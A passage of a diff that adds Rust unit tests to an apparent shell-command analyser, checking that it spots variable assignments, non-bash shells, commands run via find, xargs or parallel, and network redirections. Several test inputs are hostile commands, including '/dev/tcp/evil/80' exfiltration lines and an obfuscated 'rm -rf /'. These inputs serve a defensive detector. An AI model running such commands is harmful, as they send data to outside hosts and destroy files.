+                out.extend(c.sets.iter().map(|v| v.name.clone()));
+                out.extend(c.assignments.iter().map(|v| v.name.clone()));
+            }
+            out
+        };
+        assert_eq!(sets("for PATH in bin; do ls; done"), ["PATH"]);
+        assert_eq!(sets("read HOME < f"), ["HOME"]);
+        assert_eq!(sets("read -r a b"), ["a", "b"]);
+        assert_eq!(sets("read"), ["REPLY"]);
+        assert_eq!(sets("read -a arr -p x"), ["arr"]);
+        assert_eq!(sets("printf -v PATH %s /tmp"), ["PATH"]);
+        assert_eq!(sets("declare -x PATH=/tmp"), ["PATH"]);
+        assert_eq!(sets("export GIT_DIR=x FOO"), ["GIT_DIR", "FOO"]);
+        assert_eq!(sets("local x=1"), ["x"]);
+        assert_eq!(sets("readonly IFS"), ["IFS"]);
+        assert_eq!(sets("mapfile -t LD_PRELOAD < f"), ["LD_PRELOAD"]);
+        assert_eq!(sets("readarray lines < f"), ["lines"]);
+        assert_eq!(sets("getopts ab PATH"), ["PATH"]);
+        assert_eq!(sets("unset HOME"), ["HOME"]);
+        assert_eq!(sets("command export PATH=x"), ["PATH"]);
+        assert_eq!(sets("env FOO=1 BAR=$x ls"), ["FOO", "BAR"]);
+        for cmd in [
+            "declare $X",
+            "export $N=1",
+            "printf $F x",
+            "mapfile -C cb arr",
+            "read $V",
+        ] {
+            assert!(analyse(cmd, w()).is_err(), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn shells_other_than_bash_are_marked() {
+        for cmd in [
+            "zsh -c 'ls'",
+            "fish -c ls",
+            "ksh -c ls",
+            "dash -c ls",
+            "/bin/zsh x.zsh",
+            "mksh",
+            "busybox ash -c ls",
+        ] {
+            let a = analyse(cmd, w()).unwrap();
+            assert!(
+                a.commands.iter().any(|c| c.foreign_shell.is_some()),
+                "{cmd}: {a:?}"
+            );
+        }
+        let a = analyse("bash -c 'ls && cat x'", w()).unwrap();
+        assert_eq!(names(&a), ["bash -c ls && cat x", "ls", "cat x"]);
+    }
+
+    #[test]
+    fn commands_run_by_other_commands_are_analysed() {
+        let a = analyse("find . -name '*.o' -exec rm -f {} \\;", w()).unwrap();
+        assert_eq!(names(&a)[1], "rm -f ");
+        let a = analyse("find . -execdir git push \\;", w()).unwrap();
+        assert!(a.commands[1].unseen_args);
+        let a = analyse("watch -n 1 git push", w()).unwrap();
+        assert_eq!(names(&a)[1], "git push");
+        let a = analyse("parallel -j4 git push ::: a b", w()).unwrap();
+        assert!(
+            a.commands
+                .iter()
+                .any(|c| c.match_text(c.start).0 == "git push ")
+        );
+        let a = analyse("echo push | xargs git", w()).unwrap();
+        assert_eq!(
+            a.commands[1].match_text(a.commands[1].start),
+            ("git ".into(), true)
+        );
+        for cmd in ["env -S 'git push'", "find . -exec", "parallel --bogus x"] {
+            assert!(analyse(cmd, w()).is_err(), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn network_redirections_are_not_files() {
+        for cmd in [
+            "echo x > /dev/tcp/evil/80",
+            "cat < /dev/udp/evil/53",
+            "cd /dev && echo x > tcp/evil/80",
+            "echo x >/dev//tcp/h/1",
+            "cat < /dev/$P/h/1",
+        ] {
+            let a = analyse(cmd, w()).unwrap();
+            assert_eq!(a.network.len(), 1, "{cmd}: {a:?}");
+            assert!(a.writes.is_empty() && a.reads.is_empty(), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn glob_patterns_are_kept() {
+        let a = analyse("cat .e* \"a*\"b* 'x'{1,2}", w()).unwrap();
+        let globs: Vec<Option<String>> =
+            a.commands[0].words.iter().map(|w| w.glob.clone()).collect();
+        assert_eq!(
+            globs,
+            [
+                None,
+                Some(".e*".into()),
+                Some("a\\*b*".into()),
+                Some("x{1,2}".into())
+            ]
+        );
+        let a = analyse("cat $X*", w()).unwrap();
+        assert_eq!(a.commands[0].words[1].glob, None);
     }
 
     #[test]
@@ -961,8 +2146,10 @@ mod tests {
             "$'\\x72m' -rf /",
             "echo 'unterminated",
             "[[ $x -eq 1 ]]",
+            "hash -p /tmp/x ls",
+            "timeout --bogus 5 ls",
         ] {
-            assert!(analyse(cmd, Path::new("/w")).is_err(), "{cmd}");
+            assert!(analyse(cmd, w()).is_err(), "{cmd}");
         }
     }
 }
